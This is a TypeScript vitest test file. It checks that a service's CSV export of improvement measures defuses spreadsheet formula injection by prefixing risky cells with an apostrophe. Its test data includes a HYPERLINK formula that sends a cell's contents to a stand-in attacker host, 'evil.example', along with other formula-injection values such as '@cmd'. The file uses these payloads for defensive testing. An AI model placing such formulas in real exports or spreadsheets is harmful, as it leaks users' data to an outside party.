import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Organisation, people, proposal, startServiceWithOrganisation } from '../support/organisation';
import { eventually, type TestService } from '../support/service';

/** A CSV opened in a spreadsheet must not run what someone typed into a process name. */
describe('the measures as CSV', () => {
  let service: TestService;
  let organisation: Organisation;
  beforeAll(async () => {
    ({ service, organisation } = await startServiceWithOrganisation());
  });
  afterAll(() => service?.destroy());

  it('neutralises cells that a spreadsheet would read as a formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    for (const process of [formula, '+SUM(1,2)', '-2+3', '@cmd']) {
      expect((await service.call('POST', '/api/improvements', proposal(organisation, { process }))).status).toBe(201);
    }
    // The measures are computed from the read model, which the workflows fill in.
    await eventually(async () => ((await service.call('GET', '/api/improvements')).body.total === 4 ? true : undefined));
    const issued = await service.call('POST', `/api/people/${people.orpg}/tokens`, { name: 'csv' });
    const signedIn = await fetch(`${service.url}/sign-in/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: service.url },
      body: new URLSearchParams({ token: issued.body.token as string }).toString(),
      redirect: 'manual',
    });
    const cookie = (signedIn.headers.get('set-cookie') ?? '').split(';')[0]!;
    const response = await fetch(`${service.url}/measures/tailoring.csv`, { headers: { cookie } });
    expect(response.status).toBe(200);
    const cells = (await response.text()).split('\r\n').slice(1).map((line) => line.replace(/,0$/, ''));
    expect(cells).toEqual(expect.arrayContaining([`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")"`, `"'+SUM(1,2)"`, `'-2+3`, `'@cmd`]));
    for (const cell of cells.filter(Boolean)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});
